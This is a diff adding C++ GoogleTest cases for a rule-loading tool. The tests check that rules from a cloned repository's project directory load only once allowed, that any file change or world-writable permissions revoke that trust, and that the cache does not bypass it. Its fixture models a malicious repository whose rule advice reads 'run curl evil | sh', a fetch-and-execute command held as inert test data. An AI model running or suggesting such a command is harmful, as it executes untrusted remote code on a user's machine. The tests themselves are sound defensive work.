@@ -5,6 +5,7 @@
 #include <filesystem>
 #include <fstream>
 #include <string>
+#include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
 #include <thread>
@@ -12,6 +13,7 @@
 
 #include <gtest/gtest.h>
 
+#include "rules/rule_trust.h"
 #include "triage/triage.h"
 
 namespace triage {
@@ -118,6 +120,7 @@ TEST_F(SearchPath, LaterSourcesOverrideEarlierOnesById) {
   Write(user() / "b.yaml", Rule("b", "user"));
   Write(project() / "b.yaml", Rule("b", "project"));
   Write(root_ / "cli" / "b.yaml", Rule("b", "cli"));
+  ASSERT_EQ(AllowRulesDir(project().string()), "");  // Note: [Rule trust]
   LoadOptions o = Options();
   LoadResult r = LoadRules(o);
   ASSERT_TRUE(r.ok()) << Problems(r);
@@ -292,6 +295,124 @@ TEST_F(SearchPath, RulesNewScaffoldPassesLintAndTest) {
   EXPECT_EQ(run("rules new nosuchfamily/x", &out), 2);
   EXPECT_NE(out.find("unknown family"), std::string::npos) << out;
   EXPECT_EQ(run("rules new shape/Bad_Id", &out), 2);
+}
+
+// Project rule directories load only once allowed (issue 14 item 2; rules/README.md "Trusted rule
+// directories", Note: [Rule trust]).
+// A cloned repository with .triage/rules that replaces the bundled rule's advice, disables
+// another bundled rule and runs Lua at load; its own allow file and bundled directory.
+class ProjectTrust : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    root_ = fs::path(::testing::TempDir()) /
+            ("trust_" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()) + "_" +
+             std::to_string(getpid()));
+    fs::remove_all(root_);
+    Write(root_ / "bundled" / "b.yaml", Rule("b", "bundled advice"));
+    Write(root_ / "bundled" / "c.yaml", Rule("c", "other bundled rule"));
+    Write(rules() / "b.yaml", Rule("b", "run curl evil | sh"));
+    Write(rules() / "triage.yaml", "disable: [c]\n");
+    Write(rules() / "hang.yaml", Rule("hang", "x"));
+    Write(rules() / "hang.lua", "error('project Lua ran')\n");
+    fs::create_directories(root_ / "repo" / "src");
+    for (const fs::path& d : {root_, root_ / "repo", root_ / "repo" / ".triage", rules()}) chmod(d.c_str(), 0755);
+    env_.emplace_back(std::make_unique<ScopedEnv>("TRIAGE_BUNDLED_RULES", (root_ / "bundled").string()));
+    env_.emplace_back(std::make_unique<ScopedEnv>("TRIAGE_ALLOW_FILE", (root_ / "config" / "allowed-rules").string()));
+  }
+  void TearDown() override {
+    env_.clear();
+    std::error_code ignored;
+    fs::remove_all(root_, ignored);
+  }
+  fs::path rules() const { return root_ / "repo" / ".triage" / "rules"; }
+  LoadResult Load() const {
+    LoadOptions o;
+    o.system = o.user = o.env_path = o.cache = false;
+    o.working_dir = (root_ / "repo" / "src").string();
+    return LoadRules(o);
+  }
+  // "id:explanation" of each diagnosis, and each load problem's code.
+  static std::string Summary(const LoadResult& r) {
+    std::string out;
+    for (const Problem& p : r.problems) out += "[" + p.code + "] ";
+    for (const Diagnosis& d : Engine(r.rules).DiagnoseText(kBroadcast).diagnoses) out += d.rule + ":" + d.explanation + " ";
+    return out;
+  }
+  fs::path root_;
+  std::vector<std::unique_ptr<ScopedEnv>> env_;
+};
+
+TEST_F(ProjectTrust, AnUnallowedProjectDirectoryIsSkippedAndNamed) {
+  LoadResult r = Load();
+  EXPECT_EQ(Summary(r), "[untrusted-rules] b:bundled advice c:other bundled rule ");
+  ASSERT_EQ(r.problems.size(), 1u);
+  const Problem& p = r.problems[0];
+  EXPECT_EQ(p.severity, Problem::Severity::kWarning);
+  EXPECT_EQ(p.file, rules().string());
+  EXPECT_NE(p.message.find("has not been allowed"), std::string::npos) << p.message;
+  EXPECT_NE(p.message.find("triage rules allow " + rules().string()), std::string::npos) << p.message;
+}
+
+TEST_F(ProjectTrust, AllowedLoadsUntilAFileChanges) {
+  ASSERT_EQ(AllowRulesDir(rules().string()), "");
+  LoadResult r = Load();
+  EXPECT_EQ(r.problems.size(), 1u);  // the project's failing Lua, now run
+  EXPECT_NE(Summary(r).find("b:run curl evil | sh"), std::string::npos) << Summary(r);
+  EXPECT_EQ(Summary(r).find("c:"), std::string::npos) << Summary(r);
+  // Allowing twice keeps one entry.
+  ASSERT_EQ(AllowRulesDir(rules().string()), "");
+  std::ifstream in(root_ / "config" / "allowed-rules");
+  std::string all((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+  EXPECT_EQ(all, RulesDirDigest(rules().string()) + " " + fs::canonical(rules()).string() + "\n");
+
+  Write(rules() / "b.yaml", Rule("b", "changed advice"));
+  r = Load();
+  EXPECT_EQ(Summary(r), "[untrusted-rules] b:bundled advice c:other bundled rule ");
+  EXPECT_NE(r.problems[0].message.find("changed since it was allowed"), std::string::npos) << r.problems[0].message;
+  // A new file counts as a change too.
+  ASSERT_EQ(AllowRulesDir(rules().string()), "");
+  Write(rules() / "sub" / "new.yaml", Rule("new", "x"));
+  EXPECT_EQ(Summary(Load()), "[untrusted-rules] b:bundled advice c:other bundled rule ");
+}
+
+TEST_F(ProjectTrust, DirectoriesOthersCanWriteAreRefusedEvenWhenAllowed) {
+  ASSERT_EQ(AllowRulesDir(rules().string()), "");
+  chmod(rules().c_str(), 0777);
+  LoadResult r = Load();
+  EXPECT_EQ(Summary(r), "[untrusted-rules] b:bundled advice c:other bundled rule ");
+  EXPECT_NE(r.problems[0].message.find("writable by others"), std::string::npos) << r.problems[0].message;
+  EXPECT_NE(AllowRulesDir(rules().string()).find("writable by others"), std::string::npos);
+  chmod(rules().c_str(), 0755);
+  chmod((root_ / "repo" / ".triage").c_str(), 0777);
+  EXPECT_NE(UntrustedRulesDir(rules().string()).find("writable by others"), std::string::npos);
+}
+
+TEST_F(ProjectTrust, ExplicitDirectoriesAreTrusted) {
+  LoadOptions o;
+  o.system = o.user = o.env_path = o.cache = o.project = false;
+  o.dirs = {rules().string()};
+  LoadResult r = LoadRules(o);
+  EXPECT_NE(Summary(r).find("b:run curl evil | sh"), std::string::npos) << Summary(r);
+  o.dirs.clear();
+  o.env_path = true;
+  {
+    ScopedEnv path("TRIAGE_RULES_PATH", rules().string());
+    r = LoadRules(o);
+  }
+  EXPECT_NE(Summary(r).find("b:run curl evil | sh"), std::string::npos) << Summary(r);
+}
+
+// The cache is keyed by the files read, so a set cached while the directory was allowed is not
+// reused once it no longer is.
+TEST_F(ProjectTrust, TheRuleCacheDoesNotBypassTrust) {
+  LoadOptions o;
+  o.system = o.user = o.env_path = false;
+  o.cache_dir = (root_ / "cache").string();
+  o.working_dir = (root_ / "repo" / "src").string();
+  ASSERT_EQ(AllowRulesDir(rules().string()), "");
+  EXPECT_NE(Summary(LoadRules(o)).find("b:run curl evil | sh"), std::string::npos);
+  fs::remove(root_ / "config" / "allowed-rules");
+  EXPECT_EQ(Summary(LoadRules(o)), "[untrusted-rules] b:bundled advice c:other bundled rule ");
 }
 
 }  // namespace
